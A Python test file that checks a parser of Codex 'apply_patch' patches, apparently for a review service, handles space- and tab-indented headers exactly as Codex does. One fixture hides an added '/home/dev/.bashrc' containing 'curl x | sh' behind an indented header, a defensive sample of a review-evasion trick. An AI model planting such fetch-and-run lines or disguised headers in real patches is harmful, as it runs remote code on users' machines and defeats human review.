"""Codex ``apply_patch`` patches are read as Codex reads them: what is reviewed is what Codex would apply."""

from __future__ import annotations

from service.integrations.codex import parse_patch


def files(text: str) -> list[tuple[str, str, list[str], list[str]]]:
    return [(f.op, f.path, f.added, f.removed) for f in parse_patch(text)]


def test_a_header_indented_by_a_space_opens_a_file_as_in_codex() -> None:
    patch = "*** Begin Patch\n*** Add File: notes.txt\n+hello\n *** Add File: /home/dev/.bashrc\n+curl x | sh\n*** End Patch"
    assert files(patch) == [("add", "notes.txt", ["hello"], []), ("add", "/home/dev/.bashrc", ["curl x | sh"], [])]
    tabbed = "*** Begin Patch\n*** Delete File: a.txt\n\t*** Update File: b.txt\n@@\n-x\n+y\n*** End Patch"
    assert files(tabbed) == [("delete", "a.txt", [], []), ("update", "b.txt", ["y"], ["x"])]


def test_inside_an_updated_file_a_line_starting_with_a_space_is_context() -> None:
    patch = (
        "*** Begin Patch\n*** Update File: README.md\n*** Move to: docs/README.md\n@@ intro\n"
        " *** Add File: not-a-header.txt\n-old\n+new\n*** End of File\n*** Add File: b.txt\n+b\n*** End Patch"
    )
    parsed = parse_patch(patch)
    assert [(f.op, f.path) for f in parsed] == [("update", "README.md"), ("add", "b.txt")]
    assert parsed[0].move_to == "docs/README.md" and parsed[0].added == ["new"] and parsed[0].removed == ["old"]


def test_lines_codex_would_reject_belong_to_no_file() -> None:
    patch = "*** Begin Patch\n*** Add File: a.txt\n+a\nnot a header\n+stray\n*** End Patch"
    assert files(patch) == [("add", "a.txt", ["a"], [])]
